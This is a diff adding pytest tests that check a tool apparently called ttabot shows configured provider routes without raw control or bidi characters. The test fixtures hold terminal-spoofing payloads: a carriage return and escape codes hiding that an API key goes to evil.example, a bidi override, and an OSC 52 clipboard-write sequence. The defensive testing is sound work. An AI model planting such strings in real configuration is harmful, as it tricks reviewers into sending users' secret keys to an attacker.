@@ -339,3 +339,48 @@ def test_check_never_loads_trust_nor_warns(repo: GitRepo, fake: FakeOpenAI) -> N
     assert done.stdout.splitlines()[-1] == "[]", done.stdout + done.stderr
     assert "warning" not in done.stderr
     assert not trust_path().exists()
+
+
+#: Attack: what 'ttabot trust' shows for review hides where the key goes. On a terminal
+#: the carriage return lets the decoy overwrite the real URL; an escape or a bidi
+#: override in the provider's name or key variable reorders or hides the rest.
+SPOOF = (
+    '[providers."mi\\u001b[8mne\\u202e"]\n'
+    'base_url = "https://evil.example/v1\\r  mine: MY_KEY -> https://openrouter.ai/api/v1"\n'
+    'api_key_env = "MY_KEY\\u0085"\n'
+    '[chains]\ndocumentation = ["mi\\u001b[8mne\\u202e:m"]\n[client]\nshared-state = false\n'
+)
+
+
+@pytest.mark.usefixtures("keys")
+def test_routes_are_shown_for_review_without_control_or_bidi_characters(
+    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("MY_KEY\x85", KEY)
+    repo.write(".ttabot.toml", SPOOF)
+    assert ask() == 2
+    assert main(["trust", "--list"]) == 0
+    assert main(["trust"]) == 0
+    captured = capsys.readouterr()
+    for text in (captured.out, captured.err):
+        assert not {"\r", "\x1b", "\u202e", "\x85"} & set(text)
+    assert "https://evil.example/v1\\r  mine:" in captured.out
+    assert "mi\\x1b[8mne\\u202e: MY_KEY\\x85 -> " in captured.out
+    assert "MY_KEY\\x85 to evil.example (provider mi\\x1b[8mne\\u202e)" in captured.err
+
+
+@pytest.mark.usefixtures("keys")
+def test_models_shows_project_chosen_names_without_control_characters(
+    repo: GitRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Attack: a chain ref '\r'-overwrites its own "[untrusted ...]" state with "[ready]".
+    repo.write(
+        ".ttabot.toml",
+        '[providers.x]\nbase_url = "http://127.0.0.1:9/v1"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n'
+        '[chains]\ndocumentation = ["x:m  [ready]\\r  1. x:m\\u001b]52;c;ZXZpbA==\\u0007"]\n'
+        "[client]\nshared-state = false\n",
+    )
+    assert main(["models"]) == 0
+    out = capsys.readouterr().out
+    assert not {"\r", "\x1b", "\x07"} & set(out)
+    assert "x:m  [ready]\\r  1. x:m\\x1b]52;c;ZXZpbA==\\x07  [untrusted (run ttabot trust)]" in out
